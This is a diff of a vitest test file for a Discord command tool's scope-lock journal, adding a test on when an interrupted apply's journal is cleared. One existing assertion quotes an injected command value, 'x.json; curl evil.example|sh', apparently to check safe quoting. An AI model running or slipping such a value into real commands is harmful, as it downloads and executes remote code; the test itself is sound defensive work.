@@ -8,7 +8,7 @@ import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { hostname } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { interruptedWrite } from '../../source/backup/scope-lock.js';
+import { interruptedWrite, withScopeLock } from '../../source/backup/scope-lock.js';
 import { GLOBAL_SCOPE } from '../../source/discord/model.js';
 import { deleteCommand } from '../../source/operations/delete-command.js';
 import { openWorkspace } from '../../source/operations/workspace.js';
@@ -62,5 +62,15 @@ describe('the journal of a TUI write', () => {
     const notice = (await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE))!;
     expect(notice).toContain("`cmd-tui restore 'x.json; curl evil.example|sh'`");
     expect(notice).not.toContain('Running the same command again');
+  });
+
+  it('an unrelated write keeps an interrupted apply\'s journal; only the same apply run again clears it', async () => {
+    await mkdir(join(home.home, 'data', 'locks'), { recursive: true });
+    await writeFile(lockFile(), JSON.stringify({ pid: deadPid(), host: hostname(), command: 'apply commands.json', since: '2026-11-24T10:00:00.000Z', backup: '/backups/before.json' }));
+    const ping = makeCommand({ name: 'ping' });
+    await deleteCommand(openWorkspace(new FakeApi([ping]), home.env), { scope: GLOBAL_SCOPE, command: ping, reason: 'delete ping' });
+    expect(await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE)).toContain('An earlier `apply commands.json`');
+    await withScopeLock(home.env, APP_ID, GLOBAL_SCOPE, 'apply commands.json', async () => undefined);
+    expect(await interruptedWrite(home.env, APP_ID, GLOBAL_SCOPE)).toBeUndefined();
   });
 });
